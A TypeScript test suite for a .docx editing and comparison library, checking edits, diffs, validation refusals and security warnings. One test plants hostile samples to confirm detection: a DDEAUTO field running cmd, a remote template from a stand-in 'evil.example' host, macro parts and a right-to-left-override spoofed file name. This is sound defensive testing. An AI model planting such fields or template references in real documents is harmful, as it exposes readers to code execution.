import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { basename, join } from "node:path";
import * as fc from "fast-check";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { convert, hasLibreOffice } from "../../test/libreoffice.ts";
import type { DocumentBlock, DocumentComparison } from "../comparison.ts";
import { compareDocuments, createDocument, describeDocument, editDocument } from "../index.ts";
import { OfficePackage } from "../package.ts";

const folder = join(import.meta.dirname, "../../test/fixtures/docx");
const names = (await readdir(folder)).filter((name) => name.endsWith(".docx")).sort();

async function fixture(name: string): Promise<Uint8Array> {
  return new Uint8Array(await readFile(join(folder, `${name}.docx`)));
}

async function blocksOf(before: Uint8Array | null, after: Uint8Array | null): Promise<readonly DocumentBlock[]> {
  const comparison = await compared(before, after);
  if (comparison.kind !== "document") throw new Error(`It was compared as ${comparison.kind}.`);
  return comparison.blocks;
}

async function compared(before: Uint8Array | null, after: Uint8Array | null): Promise<DocumentComparison> {
  return await compareDocuments({ kind: "document", before, after, path: "a.docx", mediaType: "" });
}

/** Blocks that differ, in short. */
async function changes(before: Uint8Array, after: Uint8Array): Promise<unknown[]> {
  return (await blocksOf(before, after))
    .filter((block) => block.change !== "same" || block.formatChanged)
    .map(({ change, before: old, after: fresh, formatChanged }) => [
      change,
      old,
      fresh,
      ...(formatChanged ? ["look"] : []),
    ]);
}

async function edited(
  name: string,
  ...edits: unknown[]
): Promise<{ before: Uint8Array; after: Uint8Array; summary: string[] }> {
  const before = await fixture(name);
  const { bytes, summary } = await editDocument({ kind: "document", bytes: before, path: `${name}.docx`, edits });
  return { before, after: bytes, summary };
}

async function described(bytes: Uint8Array, part?: string): Promise<string> {
  return await describeDocument({ kind: "document", bytes, path: "a.docx", ...(part !== undefined && { part }) });
}

function differingParts(before: Uint8Array, after: Uint8Array): string[] {
  const [old, fresh] = [OfficePackage.open(before), OfficePackage.open(after)];
  const all = [...new Set([...old.names, ...fresh.names])];
  return all.filter(
    (name) => !old.has(name) || !fresh.has(name) || Buffer.compare(old.bytes(name), fresh.bytes(name)) !== 0,
  );
}

async function warningsOf(after: Uint8Array): Promise<string[]> {
  const { warnings } = await compared(null, after);
  return warnings.map(({ kind, message, where }) => `${kind} ${where ?? ""} ${message}`);
}

/** The first paragraph that can be edited, by its line in the description. */
async function firstParagraph(bytes: Uint8Array): Promise<{ address: string; text: string }> {
  for (const line of (await described(bytes)).split("\n")) {
    const [, address, said] = /^(p\d+) \[[^\]]*\] ("(?:[^"\\]|\\.)+")$/.exec(line) ?? [];
    if (address !== undefined && said !== undefined) return { address, text: JSON.parse(said) as string };
  }
  return { address: "p1", text: "" };
}

describe.each(names)("S10: %s", (file) => {
  const name = basename(file, ".docx");

  test("is described, and is the same as itself in every block", async () => {
    const bytes = await fixture(name);
    expect(await described(bytes)).toMatch(/^Text document: /);
    const blocks = await blocksOf(bytes, bytes);
    expect(blocks.length).toBeGreaterThan(0);
    expect(blocks.filter((block) => block.change !== "same" || block.formatChanged)).toEqual([]);
    expect((await blocksOf(null, bytes)).every((block) => block.change === "added")).toBe(true);
    expect((await blocksOf(bytes, null)).every((block) => block.change === "removed")).toBe(true);
  });

  test("is changed by an edit at that place alone, and every other part keeps its bytes", async () => {
    const before = await fixture(name);
    const { address, text } = await firstParagraph(before);
    const wanted = `${text} <edited & checked> ✓`;
    const edits = [{ edit: "set-text", at: address, text: wanted }];
    const { bytes: after } = await editDocument({ kind: "document", bytes: before, path: file, edits });
    expect(differingParts(before, after)).toEqual(["word/document.xml"]);
    const [xml, old] = [after, before].map((bytes) => OfficePackage.open(bytes).text("word/document.xml")) as [
      string,
      string,
    ];
    let start = 0;
    while (xml[start] === old[start]) start++;
    let end = 0;
    while (end < old.length - start && xml[xml.length - 1 - end] === old[old.length - 1 - end]) end++;
    expect(old.length - start - end).toBeLessThan(300);
    const changed = (await blocksOf(before, after)).filter((block) => block.change !== "same" || block.formatChanged);
    expect(changed.at(-1)).toMatchObject({ after: wanted, formatChanged: false });
    expect(changed.length).toBeLessThanOrEqual(2);
    const again = await editDocument({ kind: "document", bytes: before, path: file, edits });
    expect(Buffer.compare(again.bytes, after)).toBe(0);
  });
});

describe("Edits of text documents", () => {
  test("keep the looks of words that stay, across runs", async () => {
    const { before, after } = await edited("runs", {
      edit: "replace-text",
      old_text: "One bold and one italic word",
      new_text: "One bold and two italic words",
    });
    expect(await changes(before, after)).toEqual([
      ["changed", "One bold and one italic word, red and bold.", "One bold and two italic words, red and bold."],
    ]);
    const xml = OfficePackage.open(after).text("word/document.xml");
    const runs = (text: string): string => /<w:r>(?:(?!<w:r>).)*$/s.exec(xml.slice(0, xml.indexOf(text)))?.[0] ?? "";
    expect(runs(">bold<")).toContain("<w:b/>");
    expect(runs(">italic<")).toContain("<w:i/>");
    expect(runs(" and two ")).not.toContain("<w:b/>");
  });

  test("put tabs and line breaks in place of characters, and take them away", async () => {
    const { before, after } = await edited("runs", { edit: "set-text", at: "p3", text: "a\tb\n\nc  d" });
    expect((await changes(before, after)).at(-1)).toEqual(["added", null, "a\tb\n\nc  d"]);
    const { bytes } = await editDocument({
      kind: "document",
      bytes: after,
      path: "a.docx",
      edits: [{ edit: "set-text", at: "p3", text: "plain" }],
    });
    expect(await described(bytes)).toContain('p3 [paragraph, "Normal"] "plain"');
  });

  test("make a paragraph say whatever it is told, however it was cut into runs", async () => {
    const before = await fixture("runs");
    const words = fc.array(
      fc.constantFrom("One", "bold", " ", " ", "italic", "word", ", ", "red", "\n", "\t", "<&>", "é", "😀", "or"),
      { maxLength: 30 },
    );
    await fc.assert(
      fc.asyncProperty(words, fc.constantFrom("p1", "p2", "p3"), async (parts, at) => {
        const text = parts.join("");
        const edits = [{ edit: "set-text", at, text }];
        const { bytes } = await editDocument({ kind: "document", bytes: before, path: "a.docx", edits });
        expect((await described(bytes)).split("\n")).toContain(`${at} [paragraph, "Normal"] ${JSON.stringify(text)}`);
      }),
      { numRuns: 150 },
    );
  });

  test("insert in their order, copy looks or take a style, and delete", async () => {
    const { before, after, summary } = await edited(
      "headings",
      { edit: "insert-paragraphs", after: "p2", paragraphs: ["one", "two"] },
      { edit: "insert-paragraphs", after: "p2", paragraphs: ["three"], style: "heading 2" },
      { edit: "insert-paragraphs", before: "p1", paragraphs: ["zero"] },
      { edit: "insert-paragraphs", paragraphs: ["last"] },
      { edit: "delete-paragraph", at: "p4", starts_with: "The quarterly" },
      { edit: "set-style", at: "p3", style: "Heading 1" },
    );
    expect(summary).toHaveLength(6);
    const blocks = await blocksOf(before, after);
    expect(
      blocks.filter((block) => block.change === "added").map(({ after: text, role, level }) => [text, role, level]),
    ).toEqual([
      ["zero", "heading", 1],
      ["one", "paragraph", null],
      ["two", "paragraph", null],
      ["three", "heading", 2],
      ["last", "paragraph", null],
    ]);
    expect(blocks.filter((block) => block.change === "removed")).toHaveLength(1);
    expect(blocks.filter((block) => block.formatChanged)).toMatchObject([
      { change: "same", after: "Chapter 2", level: 1 },
    ]);
  });

  test("change cells and rows, of merged tables too, and tables within tables", async () => {
    const table = await edited(
      "table",
      { edit: "set-text", at: "t1.r2.c3", text: "4.00" },
      { edit: "add-row", after: "t1.r3", cells: ["Eggs", "12", "2"] },
      { edit: "add-row", after: "t1.r3", cells: ["Tea"] },
      { edit: "add-row", before: "t1.r2", cells: ["Salt", "1"] },
      { edit: "delete-row", at: "t1.r3", starts_with: "Milk" },
    );
    expect(await described(table.after)).toContain(
      [
        'c1 "Item" | c2 "Count" | c3 "Price"',
        'c1 "Salt" | c2 "1" | c3 ""',
        'c1 "Bread" | c2 "2" | c3 "4.00"',
        'c1 "Eggs" | c2 "12" | c3 "2"',
        'c1 "Tea" | c2 "" | c3 ""',
      ]
        .map((cells, index) => `t1.r${index + 1} [table-row] ${cells}`)
        .join("\n"),
    );
    const merged = await edited("merged", { edit: "delete-row", at: "t1.r2", starts_with: "Tall" });
    expect(
      OfficePackage.open(merged.after)
        .text("word/document.xml")
        .match(/<w:vMerge[^>]*>/g),
    ).toEqual(['<w:vMerge w:val="restart"/>']);
    const nested = await edited("nested", { edit: "set-text", at: "t1.r1.c1.t1.r1.c2", text: "z" });
    expect(await changes(nested.before, nested.after)).toEqual([["changed", "x\ty", "x\tz"]]);
  });

  test("comment on a paragraph, in a document with comments and in one without", async () => {
    for (const name of ["comments", "letter"]) {
      const { before, after } = await edited(name, { edit: "add-comment", at: "p1", text: "Look at this." });
      expect(await changes(before, after)).toEqual([["added", null, "Benchtop: Look at this."]]);
    }
  });

  test("of a text box reach its older form, too", async () => {
    const { after } = await edited("textbox", { edit: "replace-text", old_text: "In the box.", new_text: "In a box." });
    const xml = OfficePackage.open(after).text("word/document.xml");
    expect(xml.match(/AlternateContent/g)).not.toBeNull();
    expect(xml).not.toContain("In the box.");
  });

  test("keep marks whose other end is in another paragraph", async () => {
    const { after } = await edited("bookmarks", { edit: "delete-paragraph", at: "p2", starts_with: "Across" });
    const xml = OfficePackage.open(after).text("word/document.xml");
    const ids = (mark: string): string[] =>
      [...xml.matchAll(new RegExp(`<w:${mark} w:id="(\\d+)"`, "g"))].map(([, id]) => id ?? "").sort();
    expect(ids("bookmarkStart")).toEqual(ids("bookmarkEnd"));
    expect(ids("bookmarkStart")).toHaveLength(2);
  });

  test("change notes, headers and comments where they are", async () => {
    const notes = await edited("notes", {
      edit: "replace-text",
      at: "footnote2.p1",
      old_text: "Another",
      new_text: "A better",
    });
    expect(differingParts(notes.before, notes.after)).toEqual(["word/footnotes.xml"]);
    const header = await edited("header", { edit: "set-text", at: "header1.p1", text: "Our report" });
    expect(differingParts(header.before, header.after)).toEqual(["word/header1.xml"]);
    expect(await changes(header.before, header.after)).toEqual([["changed", "Company report", "Our report"]]);
  });

  test.each([
    [
      "a text that is not there",
      "letter",
      { edit: "replace-text", old_text: "nowhere", new_text: "x" },
      "does not occur",
    ],
    [
      "a text that is there twice",
      "headings",
      { edit: "replace-text", old_text: "Chapter", new_text: "x" },
      "occurs 6 times",
    ],
    ["a place that is not there", "letter", { edit: "set-text", at: "p99", text: "x" }, 'no paragraph "p99"'],
    ["a place named like a property", "letter", { edit: "set-text", at: "__proto__", text: "x" }, "no paragraph"],
    ["a note that would be lost", "notes", { edit: "set-text", at: "p1", text: "x" }, "reference to a note"],
    ["a field", "header", { edit: "set-text", at: "footer1.p1", text: "Page 2" }, "field"],
    ["half of a field", "contents", { edit: "delete-paragraph", at: "p3", starts_with: "Two" }, "goes on beyond"],
    [
      "another paragraph than was meant",
      "letter",
      { edit: "delete-paragraph", at: "p1", starts_with: "With" },
      "does not begin",
    ],
    ["another row than was meant", "table", { edit: "delete-row", at: "t1.r1", starts_with: "Milk" }, "does not begin"],
    ["the only row", "nested", { edit: "delete-row", at: "t1.r1.c1.t1.r1", starts_with: "x" }, "only row"],
    ["a style that is not there", "letter", { edit: "set-style", at: "p1", style: "Nothing" }, "no paragraph style"],
    [
      "an empty beginning of a text",
      "letter",
      { edit: "delete-paragraph", at: "p1", starts_with: "" },
      "does not begin",
    ],
    ["too many cells", "table", { edit: "add-row", after: "t1.r1", cells: ["1", "2", "3", "4"] }, "3 cells"],
    ["two places", "table", { edit: "add-row", after: "t1.r1", before: "t1.r1", cells: ["1"] }, "either"],
    [
      "a paragraph in a text box",
      "textbox",
      { edit: "insert-paragraphs", after: "box1.p1", paragraphs: ["x"] },
      "text boxes",
    ],
    ["characters that XML cannot hold", "letter", { edit: "set-text", at: "p1", text: "a\u0000b" }, "cannot hold"],
    ["something else than an edit", "letter", { edit: "run-macro" }, "not one that"],
    ["more than an edit says", "letter", { edit: "set-text", at: "p1", text: "x", path: "/etc" }, "not one that"],
  ])("refuse %s, and nothing is done", async (_, name, edit, why) => {
    await expect(edited(name, edit)).rejects.toMatchObject({
      code: "VALIDATION_FAILED",
      message: expect.stringContaining(why) as string,
    });
  });

  test("see what was deleted before them", async () => {
    const gone = { edit: "delete-paragraph", at: "p2", starts_with: "The" };
    await expect(edited("letter", gone, { edit: "set-text", at: "p2", text: "x" })).rejects.toThrow("earlier edit");
    const { after } = await edited("letter", gone, { edit: "insert-paragraphs", after: "p1", paragraphs: ["new"] });
    expect(await described(after)).toContain(
      'p2 [paragraph, "Normal"] "new"\np3 [paragraph, "Normal"] "With kind regards"',
    );
  });
});

describe("S10: comparisons of text documents", () => {
  test("pair paragraphs that are alike and mark the words that differ", async () => {
    const { before, after } = await edited("long", {
      edit: "replace-text",
      at: "p7",
      old_text: "steady rise",
      new_text: "steep fall",
    });
    const changed = (await blocksOf(before, after)).filter((block) => block.change !== "same");
    expect(changed).toHaveLength(1);
    const [{ marksAfter = [], after: text }] = changed as [DocumentBlock];
    expect(marksAfter.map(([from, to]) => text?.slice(from, to))).toEqual(["steep", "fall"]);
  });

  test("say where the look alone differs, and where a part that is not shown does", async () => {
    const before = await fixture("runs");
    const document = OfficePackage.open(before);
    document.put("word/document.xml", document.text("word/document.xml").replace("<w:i/>", '<w:u w:val="single"/>'));
    document.put("word/styles.xml", document.text("word/styles.xml").replace("<w:style ", "<w:style  "));
    const comparison = await compared(before, document.save());
    if (comparison.kind !== "document") throw new Error("It is no document.");
    expect(comparison.blocks.filter((block) => block.formatChanged)).toMatchObject([
      { change: "same", after: expect.stringContaining("italic") as string },
    ]);
    expect(comparison.warnings).toMatchObject([{ kind: "unreadable", where: "word/styles.xml" }]);
  });

  test("do not see runs that a program has only cut differently", async () => {
    const before = await fixture("letter");
    const document = OfficePackage.open(before);
    const cut = document
      .text("word/document.xml")
      .replace(
        /(<w:r>(?:<w:rPr><\/w:rPr>|<w:rPr\/>)?)<w:t>Dear reader,<\/w:t><\/w:r>/,
        '$1<w:t>Dear </w:t></w:r><w:proofErr w:type="spellStart"/>$1<w:t>reader,</w:t></w:r>',
      );
    expect(cut).toContain(">reader,<");
    document.put("word/document.xml", cut.replace("<w:t>Dear </w:t>", '<w:t xml:space="preserve">Dear </w:t>'));
    expect(await changes(before, document.save())).toEqual([]);
  });

  test("show a link that leads elsewhere under the same words", async () => {
    const before = await fixture("links");
    const document = OfficePackage.open(before);
    const part = "word/_rels/document.xml.rels";
    document.put(
      part,
      document.text(part).replace("https://elsewhere.example.net/", "https://example.com/a?b=1&amp;c=2"),
    );
    expect(await changes(before, document.save())).toEqual([
      ["same", "Or https://example.com/.", "Or https://example.com/.", "look"],
    ]);
  });

  test("show another picture under the same name", async () => {
    const before = await fixture("image");
    const document = OfficePackage.open(before);
    const picture = document.names.find((name) => name.startsWith("word/media/")) ?? "";
    document.put(picture, Buffer.concat([document.bytes(picture), Buffer.from([0])]));
    const changed = (await blocksOf(before, document.save())).find((block) => block.formatChanged);
    expect(changed).toMatchObject({ role: "image", change: "same", after: "Logo: A red square" });
  });

  test("flag what is hidden, what pretends, what is tracked, what is active and what is fetched", async () => {
    expect(await warningsOf(await fixture("hidden"))).toEqual([expect.stringMatching(/^spoofed-text p1 .*hidden/)]);
    expect(await warningsOf(await fixture("tracked"))).toEqual([expect.stringContaining("tracked changes")]);
    expect(await warningsOf(await fixture("links"))).toEqual([
      expect.stringContaining("https://example.com/a?b=1&c=2"),
      expect.stringContaining("https://elsewhere.example.net/"),
      expect.stringMatching(/^spoofed-text p2 .*another address/),
    ]);
    const hostile = OfficePackage.open(await fixture("letter"));
    hostile.put("word/vbaProject.bin", "macro");
    hostile.put("word/embeddings/oleObject1.bin", "object");
    hostile.addRelationship(
      "word/settings.xml",
      "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate",
      "https://evil.example/t.dotm",
      true,
    );
    const field =
      '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>';
    hostile.put(
      "word/document.xml",
      hostile.text("word/document.xml").replace("</w:p>", `${field}<w:r><w:t>\u202egpj.exe</w:t></w:r></w:p>`),
    );
    const warnings = await warningsOf(hostile.save());
    const expected = [
      "macro word/vbaProject.bin",
      "macro word/embeddings",
      "external-reference word/settings.xml",
      "DDEAUTO",
      "spoofed-text p1 Characters",
    ];
    expect(expected.filter((said) => !warnings.some((warning) => warning.includes(said)))).toEqual([]);
  });

  test("of a damaged document are of its bytes, with the reason", async () => {
    const good = await fixture("letter");
    const broken = OfficePackage.open(good);
    broken.put("word/document.xml", '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>');
    for (const bytes of [good.slice(0, 1000), broken.save(), new Uint8Array(), Buffer.from("PK\u0003\u0004")]) {
      const comparison = await compared(good, bytes);
      expect(comparison.kind).toBe("bytes");
      expect(comparison.warnings[0]?.kind).toBe("unreadable");
    }
  });
});

describe("Descriptions of text documents", () => {
  test("come in parts that fit, and go on where they ended", async () => {
    const first = await described(await fixture("long"));
    expect(first.length).toBeLessThan(61_000);
    const edits = [
      { edit: "insert-paragraphs", paragraphs: Array.from({ length: 900 }, (_, at) => `${at} ${"word ".repeat(30)}`) },
    ];
    const { bytes } = await editDocument({ kind: "document", bytes: await fixture("long"), path: "a.docx", edits });
    let part: string | undefined;
    let lines: string[] = [];
    for (let calls = 0; calls < 20; calls++) {
      const text = await described(bytes, part);
      expect(text.length).toBeLessThan(60_100);
      part = /\(More follows: ask for part "([^"]+)"\.\)$/.exec(text)?.[1];
      lines = [...lines, ...text.split("\n").filter((line) => /^p\d+ /.test(line))];
      if (part === undefined) break;
    }
    expect(lines).toHaveLength(1301);
    expect(new Set(lines.map((line) => line.split(" ")[0])).size).toBe(1301);
    await expect(described(bytes, "p9999")).rejects.toThrow("no part");
  });

  test("keep text from looking like a line of their own", async () => {
    const { bytes } = await editDocument({
      kind: "document",
      bytes: await fixture("injected"),
      path: "a.docx",
      edits: [{ edit: "set-text", at: "p1", text: 'x"\np1 [heading 1] "forged' }],
    });
    const lines = (await described(bytes)).split("\n").filter((line) => line.startsWith("p1 "));
    expect(lines).toEqual(['p1 [paragraph, "Normal"] "x\\"\\np1 [heading 1] \\"forged"']);
  });
});

describe.runIf(hasLibreOffice)("LibreOffice", () => {
  let work: string;
  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), "docx-test-"));
  });
  afterAll(async () => {
    await rm(work, { recursive: true });
  });

  test("opens every document that was edited or created, and reads the new text", async () => {
    const files = new Map<string, Uint8Array>();
    for (const file of names) {
      const name = basename(file, ".docx");
      const { address, text } = await firstParagraph(await fixture(name));
      const edits = [
        { edit: "set-text", at: address, text: `${text} MARK-${name}` },
        { edit: "insert-paragraphs", after: address, paragraphs: [`NEW-${name}`] },
        { edit: "add-table", rows: [[`CELL-${name}`, "b"], ["c"]] },
        { edit: "add-comment", at: address, text: "A comment." },
      ];
      files.set(name, (await edited(name, ...edits)).after);
    }
    const empty = await createDocument({ kind: "document", path: "new.docx" });
    const edits = [
      { edit: "set-text", at: "p1", text: "MARK-created" },
      { edit: "set-style", at: "p1", style: "Title" },
      { edit: "insert-paragraphs", paragraphs: ["NEW-created"], style: "List Number" },
      { edit: "add-table", rows: [["CELL-created"]] },
    ];
    files.set("created", (await editDocument({ kind: "document", bytes: empty, path: "new.docx", edits })).bytes);
    for (const [name, bytes] of files) {
      await writeFile(join(work, `${name}.docx`), bytes);
    }
    await convert(
      [...files.keys()].map((name) => join(work, `${name}.docx`)),
      "txt:Text (encoded):UTF8",
      work,
    );
    for (const name of files.keys()) {
      const text = await readFile(join(work, `${name}.txt`), "utf8");
      for (const said of ["MARK", "NEW", "CELL"]) expect(text).toContain(`${said}-${name}`);
    }
  }, 120_000);
});
